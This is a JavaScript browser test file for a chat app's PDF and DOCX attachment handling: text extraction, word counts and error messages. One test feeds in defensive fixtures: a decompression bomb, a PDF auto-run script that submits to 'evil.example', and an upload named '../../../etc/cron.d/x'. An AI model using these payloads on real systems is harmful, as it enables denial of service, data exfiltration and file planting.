// PDF and DOCX files that go along with a message: the model gets their text, a person sees the same.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { test } from 'node:test';
import { crc32, deflateRawSync } from 'node:zlib';

import { axe, begin, done, open, say, skip } from './harness.mjs';

if (!existsSync('/usr/bin/pdftotext')) skip('pdftotext is not here (poppler-utils)');
const { server, browser, end } = await begin();
const { get } = server;
const picker = (view) => view.getByRole('group', { name: 'Message' }).locator('input[type=file]');
const file = (name, buffer) => ({ name, mimeType: 'application/octet-stream', buffer });

// One line of text a page.
function pdf(lines, more = '') {
  const objects = [`<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    `<< /Type /Pages /Count ${lines.length} /Kids [${lines.map((_, i) => `${4 + 2 * i} 0 R`).join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'];
  for (const line of lines) {
    const content = `BT /F 12 Tf 72 700 Td (${line}) Tj ET`;
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${objects.length + 2} 0 R /Resources << /Font << /F 3 0 R >> >> >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
  }
  let text = '%PDF-1.7\n';
  const places = objects.map((body, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const at of places) text += `${String(at).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text);
}

// An archive with word/document.xml alone, which is stored, or deflated.
function docx(body, deflated = false) {
  const name = Buffer.from('word/document.xml');
  const xml = Buffer.from(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`);
  const content = deflated ? deflateRawSync(xml) : xml;
  const shared = Buffer.alloc(26); // what stands in both headers
  shared.writeUInt16LE(20, 0);
  shared.writeUInt16LE(deflated ? 8 : 0, 4);
  shared.writeUInt32LE(crc32(xml), 10);
  shared.writeUInt32LE(content.length, 14);
  shared.writeUInt32LE(xml.length, 18);
  shared.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), shared, name, content]);
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), shared, Buffer.alloc(14), name]);
  const last = Buffer.alloc(22);
  last.write('PK\x05\x06', 'latin1');
  last.writeUInt16LE(1, 8);
  last.writeUInt16LE(1, 10);
  last.writeUInt32LE(central.length, 12);
  last.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, last]);
}
const paragraph = (text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

test('a PDF and a DOCX are read, counted, sent and shown as the model reads them', async () => {
  const view = await open(browser, server);
  await view.goto(server.address);
  await picker(view).setInputFiles([file('report.pdf', pdf(['Rye bread', '', 'needs time'])),
    file('letter.docx', docx(paragraph('Dear baker,') + paragraph('thank you.')))]);
  await view.getByText('3 pages · 8 words').waitFor();
  await view.getByText('4 words').waitFor();
  await view.getByText('report.pdf: pages without text (pictures or scans are not read): 2').waitFor();
  await say(view, 'sum these up');
  await done(view);
  const [made] = (await get('/api/v1/conversations')).data;
  const [question] = (await get(`/api/v1/conversations/${made.id}`)).messages;
  assert.equal(question.text, 'sum these up\n\nreport.pdf:\n```pdf\n[page 1]\nRye bread\n\n[page 3]\nneeds time\n```\n\n'
    + 'letter.docx:\n```docx\nDear baker,\n\nthank you.\n```');
  const other = await open(browser, server);
  await other.goto(`${server.address}/#/chat/${made.id}`);
  const asked = other.locator('article[data-role=user]');
  await asked.getByText('3 pages · 8 words').waitFor();
  await asked.getByText('report.pdf').click();
  await asked.getByText('[page 1]\nRye bread').waitFor();
  await asked.getByText('not read): 2').waitFor();
  await asked.getByText('letter.docx').click();
  await asked.getByText('thank you.').waitFor();
  assert.deepEqual(await axe(other), []);
  assert.deepEqual([...view.problems, ...other.problems], []);
});

test('what cannot be read is refused with the reason, and the others go along', async () => {
  const view = await open(browser, server);
  await view.goto(server.address);
  await picker(view).setInputFiles([file('scan.pdf', pdf([''])), file('cut.docx', docx(paragraph('x')).subarray(0, 90)),
    file('fine.docx', docx(paragraph('whole')))]);
  await view.getByText('1 words').waitFor();
  const said = await view.getByRole('alert').innerText();
  assert.match(said, /scan\.pdf: the PDF file has no text on its 1 pages.*cut\.docx: the document is damaged/s);
  assert.equal(await view.getByRole('group', { name: 'Message' }).locator('li').count(), 1);
  await say(view, 'and this?');
  await done(view);
});

test('a bomb, a script and too much are refused or do nothing, and who sent them goes on', async () => {
  const view = await open(browser, server);
  await view.goto(server.address);
  const bomb = docx(paragraph('a'.repeat(64 << 20)), true);
  assert.ok(bomb.length < 100_000);
  const script = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >>';
  await picker(view).setInputFiles([file('bomb.docx', bomb), file('fine.docx', docx(paragraph('packed'), true)),
    file('script.pdf', pdf(['no more than this'], script)), file('large.pdf', Buffer.alloc((32 << 20) + 1, '%PDF-1.7\n'))]);
  await view.getByText('1 pages · 4 words').waitFor();
  const said = await view.getByRole('alert').innerText();
  assert.match(said, /bomb\.docx: .*limit.*large\.pdf is larger than 34 MB/s);
  assert.equal(await view.getByRole('group', { name: 'Message' }).locator('li').count(), 2);
  await say(view, 'and now?');
  await done(view);
  const [made] = (await get('/api/v1/conversations')).data;
  const [question] = (await get(`/api/v1/conversations/${made.id}`)).messages;
  assert.equal(question.text, 'and now?\n\nfine.docx:\n```docx\npacked\n```\n\nscript.pdf:\n```pdf\nno more than this\n```');
  const form = new FormData(); // past the page, too
  form.set('file', new Blob([Buffer.alloc((32 << 20) + 1, '%PDF-1.7\n')]), '../../../etc/cron.d/x');
  assert.ok([400, 413].includes((await fetch(`${server.address}/api/v1/documents`, { method: 'POST', body: form })).status));
  assert.deepEqual(view.problems.filter((each) => !/status of 4/.test(each)), []);
});

test.after(end);
